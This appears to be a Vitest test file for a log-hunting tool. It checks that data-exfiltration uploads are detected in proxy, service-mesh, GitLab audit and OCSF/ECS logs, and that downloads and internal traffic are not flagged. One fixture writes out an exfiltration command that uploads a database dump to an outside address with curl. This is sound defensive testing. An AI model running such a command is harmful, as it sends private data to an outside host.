import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { HuntResult } from '../src/model/hunt-result.js';
import { hunting } from './hunting.js';

const { hunt } = hunting();

/** What proxies, code hosts, registries and lakes tell is used: an attack in each log is found, and what looks like it and is none stays quiet. */

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'stowaway-applications-'));
});
afterAll(async () => {
  await rm(folder, { recursive: true, force: true });
});

let count = 0;
async function huntLines(lines: (object | string)[]): Promise<HuntResult> {
  count += 1;
  const file = join(folder, `${count}.log`);
  await writeFile(
    file,
    lines.map((line) => `${typeof line === 'string' ? line : JSON.stringify(line)}\n`).join(''),
  );
  const result = await hunt([file]);
  expect(result.deadLetters.total).toBe(0);
  return result;
}

const foundIn = (result: HuntResult) =>
  result.report.findings.map(({ technique, entity }) => `${technique} ${entity.name}`).sort();
const sourcesOf = (result: HuntResult) =>
  result.report.inputs.map(({ source, events }) => `${source} ${events}`);

const T0 = 1795248000;
const at = (second: number) => new Date((T0 + second) * 1000).toISOString();
const UPLOAD = 96 * 1024 * 1024;

describe("Squid's requests as JSON", () => {
  const request = (second: number, fields: object) => ({
    ...{ time: `${T0 + second}.250`, client_ip: '10.20.0.15', client_port: `${41000 + second}` },
    ...{ server_ip: '10.20.0.2', server_port: '3128', status: '200', user_agent: 'curl/8.5.0' },
    ...{ request_bytes: '180', header_bytes: '180', response_bytes: '300' },
    ...fields,
  });
  const tunnel = {
    ...{ method: 'CONNECT', host: 'up.example.net', uri: 'up.example.net:443', took_ms: '900' },
    ...{ from_ip: '10.20.0.2', from_port: '50000', upstream_ip: '198.51.100.10', upstream_port: '443' },
  };

  test('an upload through a tunnel is found, and the destination is the name', async () => {
    const result = await huntLines([request(1, { ...tunnel, request_bytes: String(UPLOAD) })]);
    expect(sourcesOf(result)).toEqual(['squid-tunnel 1']);
    expect(foundIn(result)).toContain('T1567 10.20.0.15');
    expect(JSON.stringify(result.report.findings)).toContain('up.example.net');
  });

  test('a request with a large body is found, too', async () => {
    const put = { method: 'PUT', host: 'up.example.net', uri: 'http://up.example.net/in' };
    const result = await huntLines([request(1, { ...put, request_bytes: String(UPLOAD) })]);
    expect(sourcesOf(result)).toEqual(['access-log-json 1']);
    expect(foundIn(result)).toContain('T1567 10.20.0.15');
  });

  test('a download of the same size is none, and neither is the upload to a server inside', async () => {
    const get = { method: 'GET', host: 'files.example.net', uri: 'http://files.example.net/' };
    const inside = { ...tunnel, uri: 'git.example.net:443', upstream_ip: '10.20.1.9' };
    const result = await huntLines([
      request(1, { ...tunnel, response_bytes: String(UPLOAD) }),
      request(2, { ...get, response_bytes: String(UPLOAD) }),
      request(3, { ...inside, from_port: '50003', request_bytes: String(UPLOAD) }),
    ]);
    expect(foundIn(result)).toEqual([]);
  });

  test('what a sensor before the proxy saw of a tunnel counts once', async () => {
    const conn = {
      ...{
        ts: T0 + 1.25,
        uid: 'C1',
        'id.orig_h': '10.20.0.15',
        'id.orig_p': 41001,
        'id.resp_h': '10.20.0.2',
      },
      ...{ 'id.resp_p': 3128, proto: 'tcp', duration: 0.9, orig_bytes: UPLOAD, resp_bytes: 300 },
      ...{
        conn_state: 'SF',
        orig_pkts: 70_000,
        orig_ip_bytes: UPLOAD + 3_000_000,
        resp_pkts: 90,
        resp_ip_bytes: 5000,
      },
    };
    await writeFile(join(folder, 'conn.log'), `${JSON.stringify(conn)}\n`);
    await writeFile(
      join(folder, 'squid.log'),
      `${JSON.stringify(request(1, { ...tunnel, request_bytes: String(UPLOAD) }))}\n`,
    );
    const result = await hunt([join(folder, 'conn.log'), join(folder, 'squid.log')]);
    expect(foundIn(result)).toContain('T1567 10.20.0.15');
    expect(result.report.findings[0]!.destinations).toMatchObject([
      { domain: 'up.example.net', bytes_out: UPLOAD + 3_000_000 },
    ]);
  });
});

describe("Squid's own format", () => {
  const line = (second: number, host: string, size: number) =>
    `${T0 + second}.100     10 10.20.0.15 TCP_MISS/200 ${size} GET http://${host}/ - HIER_NONE/- text/html`;

  test('what was received is not counted as sent', async () => {
    const result = await huntLines([line(1, 'files.example.net', UPLOAD), line(2, 'b.example.net', 300)]);
    expect(sourcesOf(result)).toEqual(['squid 2']);
    expect(foundIn(result)).toEqual([]);
  });
});

describe("Istio's access log", () => {
  const connection = (second: number, { called, server, cluster, sent, received }: Record<string, string>) =>
    `[${at(second)}] "- - -" 0 - - - "-" ${sent} ${received} 900 - "-" "-" "-" "-" "${server}" ${cluster} 10.20.0.15:${45_000 + second} ${called} 10.20.0.15:${41_000 + second} - -`;
  const outside = { called: '198.51.100.10:443', server: '198.51.100.10:443', cluster: 'PassthroughCluster' };

  test('TLS that a workload sends past the mesh is an upload', async () => {
    const result = await huntLines([
      connection(1, { ...outside, sent: String(UPLOAD), received: '5120' }),
      connection(2, { ...outside, sent: '900', received: '5120' }),
    ]);
    expect(sourcesOf(result)).toEqual(['istio-tcp 2']);
    expect(foundIn(result)).toContain('T1567 10.20.0.15');
  });

  test('the same amount to a service of the cluster, or fetched from outside, is none', async () => {
    const inside = {
      ...{ called: '10.96.0.20:5432', server: '10.20.1.30:5432' },
      cluster: 'outbound|5432||db.shop.svc.cluster.local',
    };
    const result = await huntLines([
      connection(1, { ...inside, sent: String(UPLOAD), received: '5120' }),
      connection(2, { ...outside, sent: '900', received: String(UPLOAD) }),
    ]);
    expect(foundIn(result)).toEqual([]);
  });

  test('through an egress gateway the destination is outside', async () => {
    const gateway = {
      ...{ called: '10.20.2.9:8443', server: '198.51.100.10:443' },
      cluster: 'outbound|443||up.example.net',
    };
    const result = await huntLines([
      connection(1, { ...gateway, sent: String(UPLOAD), received: '5120' }),
      connection(2, { ...gateway, sent: '900', received: '5120' }),
    ]);
    expect(foundIn(result)).toContain('T1567 10.20.0.15');
  });
});

describe('GitLab', () => {
  const event = (second: number, fields: object, details: object) => ({
    ...{ id: second, author_id: 7, entity_id: 29, entity_type: 'Project', entity_path: 'shop/backup' },
    ...{ author_name: 'dev', ip_address: '192.0.2.20', created_at: at(second), details },
    ...fields,
  });
  const push = { event_type: 'repository_git_operation' };
  const git = (action: string, bytes: number) => ({
    custom_message: { protocol: 'ssh', action, received_bytes: bytes },
  });

  test('a repository that is made public and pushed to is found; fetching is not', async () => {
    const opened = event(
      1,
      { event_type: 'project_visibility_level_updated' },
      { change: 'visibility', to: 'Public' },
    );
    const found = await huntLines([opened, event(20, push, git('git-receive-pack', UPLOAD))]);
    expect(foundIn(found)).toEqual(['T1567.001 shop/backup']);
    const quiet = await huntLines([
      event(20, push, git('git-upload-pack', 0)),
      event(30, push, git('git-upload-pack', 0)),
    ]);
    expect(foundIn(quiet)).toEqual([]);
  });
});

describe('what a lake holds', () => {
  const container = { uid: '3f1c9a7b5d2e', name: 'app1' };
  const ocsf = (cmd_line: string) => ({
    ...{ class_uid: 1007, category_uid: 1, activity_id: 1, time: T0 * 1000, metadata: { version: '1.3.0' } },
    process: { name: 'curl', pid: 7, cmd_line, container },
  });
  const ecs = (command_line: string) => ({
    ...{ '@timestamp': at(0), event: { category: ['process'], type: ['start'] } },
    ...{
      process: { pid: 7, name: 'curl', command_line },
      container: { id: container.uid, name: container.name },
    },
  });

  test.each([
    ['OCSF', ocsf],
    ['ECS', ecs],
  ])('%s: an upload by a tool is found, a download is not', async (_, event) => {
    expect(foundIn(await huntLines([event('curl -T /srv/db.sql http://198.51.100.10/')]))).toEqual([
      'T1567 app1',
    ]);
    expect(foundIn(await huntLines([event('curl -o /tmp/x http://198.51.100.10/')]))).toEqual([]);
  });

  test('a flow is the same whatever it is written in', async () => {
    const ends = { from: '10.20.0.15', to: '198.51.100.10' };
    const flow = {
      ...{ class_uid: 4001, activity_id: 2, time: T0 * 1000, end_time: T0 * 1000 + 9000, metadata: {} },
      ...{ src_endpoint: { ip: ends.from, port: 41_000 }, dst_endpoint: { ip: ends.to, port: 443 } },
      ...{ connection_info: { protocol_name: 'tcp' }, traffic: { bytes_out: UPLOAD, bytes_in: 5000 } },
    };
    const document = {
      ...{ '@timestamp': at(0), 'event.category': ['network'], 'event.end': at(9) },
      ...{ 'source.ip': ends.from, 'source.port': 41_000, 'source.bytes': UPLOAD },
      ...{ 'destination.ip': ends.to, 'destination.port': 443, 'destination.bytes': 5000 },
      'network.transport': 'tcp',
    };
    const [first, second] = [await huntLines([flow]), await huntLines([document])];
    expect(foundIn(first)).toContain('T1567 10.20.0.15');
    expect(foundIn(second)).toEqual(foundIn(first));
  });
});
